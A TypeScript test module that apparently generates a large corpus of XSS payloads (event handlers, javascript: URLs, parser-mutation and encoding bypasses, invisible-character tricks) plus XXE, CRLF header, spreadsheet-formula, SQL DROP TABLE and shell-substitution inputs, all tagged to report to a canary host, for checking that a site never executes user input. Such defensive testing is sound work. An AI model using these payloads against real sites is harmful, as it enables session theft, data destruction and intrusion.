/** Where a browser must never ask for anything. Tests answer for it, and note that they did. */
export const CANARY = 'canary.galley.example'

/** Writes a payload from the call that it should get run, and an address that it should get loaded. */
type Form = (run: string, canary: string) => string

/** What runs as soon as it is in a document: an element, with whatever makes it act by itself. */
const ELEMENTS: readonly Form[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script\n>${run}</script\n>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script>${run}//`,
  (_, canary) => `<script src=${canary}></script>`,
  (_, canary) => `<script src="${canary.replace('https:', '')}">`,
  (_, canary) => `<img src=${canary}>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x oNeRrOr="${run}">`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img src=x onerror\n=\n${run}>`,
  (run) => `<img src=x onerror\u000c=${run}>`,
  (run) => `<img srcset=x onerror='${run}'`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script>${run.replace('(', '&#40;')}</script></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set attributeName=onmouseover to=${run}>`,
  (run) => `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/>`,
  (run) => `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  (run) => `<body onload=${run}>`,
  (run) => `<body onpageshow=${run}>`,
  (run) => `<html onmouseenter=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (_, canary) => `<iframe src=${canary}></iframe>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (_, canary) => `<object data=${canary}></object>`,
  (run) => `<object onerror=${run} data=x></object>`,
  (_, canary) => `<embed src=${canary}>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source onerror=${run}></video>`,
  (_, canary) => `<video poster=${canary}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<audio onloadstart=${run} src=x>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<input type=image src=x onerror=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<button autofocus onfocus=${run}>x</button>`,
  (run) => `<a autofocus tabindex=1 onfocus=${run}>x</a>`,
  (run) => `<p contenteditable autofocus onfocus=${run}>x</p>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<dialog open onclose=${run} id=x><form method=dialog><button autofocus onfocus=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<style>@keyframes g{}</style><b style="animation-name:g" onanimationstart=${run}>x</b>`,
  (run) => `<style onload=${run}></style>`,
  (_, canary) => `<style>@import '${canary}';</style>`,
  (_, canary) => `<style>*{background:url(${canary})}</style>`,
  (_, canary) => `<b style="background:url(${canary})">x</b>`,
  (_, canary) => `<link rel=stylesheet href=${canary}>`,
  (_, canary) => `<link rel=prefetch href=${canary}>`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (_, canary) => `<base href=${canary}/>`,
  (_, canary) => `<meta http-equiv=refresh content="0;url=${canary}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><input type=submit autofocus onfocus=${run}>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<isindex action="javascript:${run}" type=image>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<x onclick=${run} onmouseover=${run}>x</x>`,
  (run) => `<b onpointerrawupdate=${run} onpointerenter=${run}>x</b>`,
  (run) => `<div popover id=g onbeforetoggle=${run}></div><button popovertarget=g autofocus>x`,
  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
  (run) => `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  (run) => `<template shadowrootmode=open><script>${run}</script></template>`,
  (run) => `<portal src=x onload=${run}></portal>`,
  (run) => `<track onerror=${run} src=x default>`,
]

/** What ends whatever one stands in, so that an element may begin. */
const ENDS: readonly string[] = [
  '"', "'", '`', '>', '">', "'>", '`>', '" x="">', '/>', '--><', '-->', '--!>', '<!-->', ']]>', ']]></x>', '?>', '%>', '}}', '*/', '</title>', '</textarea>',
  '</style>', '</script>', '</script >', '</noscript>', '</template>', '</xmp>', '</iframe>', '</noembed>', '</plaintext>', '</svg>', '</math>', '</select>',
  '</option></select>', '</table>', '</button>', '</a>', '</p>', '</head><body>', '</body></html>', '</mark>', '</cite>', '</time>', '</dd></dl>', '</figcaption>',
]

/** What leaves an attribute and begins another one. */
const ATTRIBUTES: readonly Form[] = [
  (run) => `" onmouseover="${run}`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' autofocus onfocus='${run}' x='`,
  (run) => `x autofocus onfocus=${run} x`,
  (run) => `" onload=${run} "`,
  (run) => `x" onerror="${run}`,
  (run) => `"onerror=${run}//`,
  (run) => `' onerror='${run}`,
  (run) => `\`onerror=${run}`,
  (run) => `" style="animation-name:x" onanimationstart="${run}`,
  (run) => `" srcdoc="<script>parent.${run}</script>`,
  (run) => `" href="javascript:${run}`,
  (run) => `" formaction="javascript:${run}`,
  (_, canary) => `" src="${canary}`,
  (_, canary) => `" background="${canary}`,
  (_, canary) => `" ping="${canary}`,
  (run) => `&quot; onerror=&quot;${run}`,
  (run) => `&#34;&#62;<img src=x onerror=${run}>`,
  (run) => `\\" onerror=\\"${run}`,
  (run) => `\u201d onerror=\u201d${run}`,
]

/** What leaves a text within a script, a template or a document of JSON. */
const SCRIPTS: readonly Form[] = [
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\`;${run};//`,
  (run) => `'-${run}-'`,
  (run) => `"-${run}-"`,
  (run) => `\\';${run};//`,
  (run) => `\\";${run};//`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{=${run}}}`,
  (run) => `[[${run}]]`,
  (run) => `<%= ${run} %>`,
  (run) => `<?php ${run} ?>`,
  (run) => `{% raw %}<script>${run}</script>{% endraw %}`,
  (run) => `*/${run}/*`,
  (run) => `\u2028${run}\u2029`,
  (run) => `\n${run}\n`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</script><!--<script>${run}`,
  (run) => `<!--<script>${run}</script>-->`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  (run) => `"}],"@type":"x","x":"</script><script>${run}</script>`,
  (run) => `"},{"headline":"<img src=x onerror=${run}>"},{"x":"`,
  (run) => `\\"}</script><svg onload=${run}>`,
  (run) => `__proto__","constructor":{"prototype":"${run}"`,
  (run) => `self.__next_f.push([1,"</script><script>${run}</script>"])`,
  (run) => `$RC;${run}`,
]

/** Addresses that run, or ask elsewhere, also in Markdown. */
const ADDRESSES: readonly Form[] = [
  ...[
    'javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\tscript:', 'java\nscript:', 'javascript\n:', '\u00a0javascript:', 'javascript&colon;',
    'javascript&#58;', '&#106;avascript:', '&#x6A;avascript:', 'javascript%3a', 'java\u200bscript:', 'feed:javascript:', 'view-source:javascript:',
    'javascript://x%0a', 'javascript:/*--></title></style>*/', 'vbscript:', 'livescript:', 'mocha:',
  ].map((scheme): Form => (run) => `${scheme}${run}`),
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>parent.${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `data:text/javascript,${run}`,
  (run) => `blob:null/${run}`,
  (run) => `[x](javascript:${run})`,
  (run) => `[x](<javascript:${run}>)`,
  (run) => `[x](JAVASCRIPT&colon;${run})`,
  (run) => `![x](x "onerror=${run}")`,
  (run) => `![x" onerror="${run}](x)`,
  (_, canary) => `![x](${canary})`,
  (run) => `<javascript:${run}>`,
  (run) => `[x]: javascript:${run}`,
  (run) => `[x][y] [y]: data:text/html,<script>${run}</script>`,
  (run) => `\`\`\`<img src=x onerror=${run}>\`\`\``,
  (run) => `\`</code><img src=x onerror=${run}>\``,
  (run) => `> <img src=x onerror=${run}>`,
  (run) => `    </pre><img src=x onerror=${run}>`,
  (run) => `# <img src=x onerror=${run}>`,
  (run) => `\\<img src=x onerror=${run}\\>`,
  (run) => `<!-- x --> <img src=x onerror=${run}>`,
]

/** Nesting that a parser mends into something else than a filter saw. */
const BROKEN: readonly Form[] = [
  (run) => `<<script>script>${run}<</script>/script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<img src="<img src=x onerror=${run}>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<title><a title="</title><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><svg onload=${run}>">`,
  (run) => `<table><td background=x><script>${run}</script>`,
  (run) => `<select><style></select><img src=x onerror=${run}></style>`,
  (run) => `<a href=x<img src=x onerror=${run}>`,
  (run) => `<b "<script>${run}</script>">x</b>`,
  (run) => `<x '="<img src=x onerror=${run}>">`,
  (run) => `<!DOCTYPE x [<script>${run}</script>]>`,
  (run) => `</><img src=x onerror=${run}>`,
  (run) => `</ x><svg onload=${run}>`,
  (run) => `<//><img src=x onerror=${run}>`,
]

/** Characters written otherwise than they are read. */
const ENCODED: readonly Form[] = [
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `&#x3c;img src=x onerror=${run}&#x3e;`,
  (run) => `&#60img src=x onerror=${run}&#62`,
  (run) => `&#0000060;svg onload=${run}&#0000062;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `%253Cscript%253E${run}%253C/script%253E`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `\u2039script\u203a${run}\u2039/script\u203a`,
  (run) => `\u02c2img src=x onerror=${run}\u02c3`,
  (run) => `<\u017fcript>${run}</\u017fcript>`,
  (run) => `<scr\u0131pt>${run}</scr\u0131pt>`,
  (run) => `<\u212amg src=x onerror=${run}>`,
  (run) => `<img src=x onerror=${[...run].map((c) => `&#${c.codePointAt(0)};`).join('')}>`,
  (run) => `<img src=x onerror="${[...run].map((c) => `&#x${c.codePointAt(0)?.toString(16)}`).join(';')};">`,
  (run) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
]

/** Marks that print as nothing, or turn the way of reading around. */
const UNSEEN: readonly Form[] = [
  ...['\u200b', '\u200d', '\ufeff', '\u00ad', '\u2060', '\u180e', '\u0301'].map((mark): Form => (run) => `<scr${mark}ipt>${run}</scr${mark}ipt>`),
  (run) => `<\u200bimg src=x onerror=${run}>`,
  (run) => `\u200b<img src=x onerror=${run}>\u200b`,
  (run) => `\u202e<script>${run}</script>\u202c`,
  (run) => `\u2066<img src=x onerror=${run}>\u2069`,
  (run) => `\u202d>tpircs/<${run}>tpircs<`,
  (run) => `\u2067">\u2069<svg onload=${run}>`,
  (run) => `<img\u00a0src=x\u00a0onerror=${run}>`,
  (run) => `<img\u3000src=x\u3000onerror=${run}>`,
  (run) => `<img\u2028src=x onerror=${run}>`,
  (run) => `\u0001<img src=x onerror=${run}>\u001b[2J`,
  (run) => `\ufffe\uffff<svg onload=${run}>`,
  (run) => `\u{e0001}\u{e003c}<svg onload=${run}>`,
]

/** What ends a part of XML, or asks its parser for more. */
const XML: readonly Form[] = [
  (run) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `]]]]><![CDATA[><script>${run}</script>`,
  (run) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  (run) => `</title></entry><entry><title type="html">&lt;img src=x onerror=${run}&gt;`,
  (run) => `</content><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  (run) => `</loc></url><url><loc>javascript:${run}</loc></url>`,
  (_, canary) => `<?xml-stylesheet type="text/xsl" href="${canary}"?>`,
  (run) => `<?xml-stylesheet type="text/css" href="javascript:${run}"?>`,
  (_, canary) => `<!DOCTYPE x [<!ENTITY g SYSTEM "${canary}">]>&g;`,
  (_, canary) => `<!ENTITY % g SYSTEM "${canary}"> %g;`,
  (_, canary) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}"/>`,
  (run) => `&undefined; & && &; &#0; &#xD800; ${run}`,
  (run) => `--><x>${run}`,
  (run) => `<a xmlns="http://www.w3.org/1999/xhtml" href="javascript:${run}">x</a>`,
]

/** What would be another line of a header, or another header. */
const HEADERS: readonly Form[] = [
  (run) => `x\r\nSet-Cookie: ran=${run}`,
  (run) => `x\r\n\r\n<script>${run}</script>`,
  (run) => `x%0d%0aSet-Cookie:%20ran=${run}`,
  (run) => `x"; filename="x.html";x="${run}`,
  (run) => `x\u560d\u560aSet-Cookie: ran=${run}`,
  (run) => `x\u2028Location: javascript:${run}`,
  (run) => `../../${run}.html`,
  (run) => `x.svg\u202egpj.${run}`,
]

/** What spreadsheets, shells and queries would take for more than words. */
const OTHERS: readonly Form[] = [
  (run) => `=HYPERLINK("javascript:${run}","x")`,
  (_, canary) => `=WEBSERVICE("${canary}")`,
  (run) => `@SUM(1)*cmd|' /C ${run}'!A0`,
  (run) => `'; DROP TABLE "Event"; -- ${run}`,
  (run) => `$(${run})`,
  (run) => `x:expression(${run})`,
  (run) => `}</style><script>${run}</script>`,
  (run) => `\\3c script\\3e ${run}`,
]

const FORMS: readonly Form[] = [
  ...ELEMENTS, ...ENDS.map((end): Form => (run) => `${end}<img src=x onerror=${run}>`),
  ...ATTRIBUTES, ...SCRIPTS, ...ADDRESSES, ...BROKEN, ...ENCODED, ...UNSEEN, ...XML, ...HEADERS, ...OTHERS,
]

/** Every payload, each with a number by which it says that it ran: `galleyRan(17)`, or a request to the canary for `/17`. */
export const PAYLOADS: readonly string[] = FORMS.map((form, number) => form(`galleyRan(${number})`, `https://${CANARY}/${number}`))

/** Begins what swallows the text behind it, so that it could hide that a later payload stands in the document. */
const SWALLOWS = /<(?:textarea|title|xmp|plaintext|noscript|style|iframe|noembed|template|select|script|!--|math|svg|object|video|audio)/i

/**
 * Payloads together in as few texts as hold them all, one behind the other, those that swallow what follows at the end; what is longer
 * than a text may be by itself is left out.
 *
 * @param longest in UTF-16 units
 */
export function bundles(longest: number, fits: (text: string) => boolean = () => true): readonly string[] {
  const texts: string[] = []
  const open: string[] = []
  let length = 0
  for (const payload of PAYLOADS.filter((text) => text.trim().length <= longest && fits(text))) {
    if (open.length > 0 && length + payload.length + 1 > longest) {
      texts.push(inOrder(open))
      open.length = 0
      length = 0
    }
    open.push(payload)
    length += payload.length + 1
  }
  return open.length > 0 ? [...texts, inOrder(open)] : texts
}

function inOrder(payloads: readonly string[]): string {
  return [...payloads.filter((text) => !SWALLOWS.test(text)), ...payloads.filter((text) => SWALLOWS.test(text))].join(' ').trim()
}
